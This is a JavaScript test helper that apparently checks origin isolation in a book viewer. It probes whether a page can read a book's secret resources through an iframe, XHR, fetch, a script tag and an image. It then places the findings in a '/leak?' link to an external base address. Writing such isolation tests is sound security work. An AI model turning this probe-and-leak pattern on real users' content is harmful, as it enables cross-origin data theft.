// Tries every way a page has to read objects of a book: a frame and what its document and
// window hold, XHR, fetch, a script and an image. probe(prefix) asks for prefix + "/secret.htm",
// "/secret.js" and "/images/secret.gif" and leaves in window.probed (a JSON text) what the page
// saw: the markers found ("OWN-PAGE", "SECRET-SCRIPT", ...), or how the attempt ended. Then it
// puts what it saw into the address of the link #web, for the reader to click.
var probed = '';

function markers(text) {
  var found = String(text).match(/[A-Z]+-(PAGE|SCRIPT)/g);
  return found ? found.join(' ') : 'nothing';
}

function settled(promise) {
  return Promise.race([promise, new Promise(function (resolve) {
    setTimeout(function () { resolve('timeout'); }, 5000);
  })]);
}

function frame(url) {
  return new Promise(function (resolve) {
    var f = document.createElement('iframe');
    f.onload = function () {
      var seen;
      try {
        seen = f.contentDocument ? markers(f.contentDocument.documentElement.outerHTML) : 'no document';
      } catch (e) {
        seen = 'denied';
      }
      try {
        seen += ', global ' + markers(f.contentWindow.secretOfTheBook);
      } catch (e) {
        seen += ', global denied';
      }
      resolve(seen);
    };
    f.src = url;
    document.body.appendChild(f);
  });
}

function xhr(url) {
  return new Promise(function (resolve) {
    var request = new XMLHttpRequest();
    request.onload = function () { resolve('read ' + markers(request.responseText)); };
    request.onerror = function () { resolve('error'); };
    try {
      request.open('GET', url);
      request.send();
    } catch (e) {
      resolve('threw');
    }
  });
}

function fetched(url) {
  try {
    return fetch(url).then(function (response) { return response.text(); })
      .then(function (text) { return 'read ' + markers(text); }, function () { return 'error'; });
  } catch (e) {
    return Promise.resolve('threw');
  }
}

function script(url) {
  return new Promise(function (resolve) {
    window.secretOfTheBook = undefined;
    var s = document.createElement('script');
    s.onload = function () { resolve('ran, global ' + markers(window.secretOfTheBook)); };
    s.onerror = function () { resolve('error'); };
    s.src = url;
    document.head.appendChild(s);
  });
}

function image(url) {
  return new Promise(function (resolve) {
    var i = new Image();
    i.onload = function () { resolve('loaded ' + i.naturalWidth + 'x' + i.naturalHeight); };
    i.onerror = function () { resolve('error'); };
    i.src = url;
  });
}

function probe(prefix, webBase) {
  probed = '';
  Promise.all([settled(frame(prefix + '/secret.htm')), settled(xhr(prefix + '/secret.htm')),
               settled(fetched(prefix + '/secret.htm')), settled(script(prefix + '/secret.js')),
               settled(image(prefix + '/images/secret.gif'))]).then(function (seen) {
    probed = JSON.stringify({ frame: seen[0], xhr: seen[1], fetch: seen[2], script: seen[3], image: seen[4] });
    var link = document.getElementById('web');
    if (link && webBase)
      link.href = webBase + '/leak?' + encodeURIComponent(probed);
  });
}
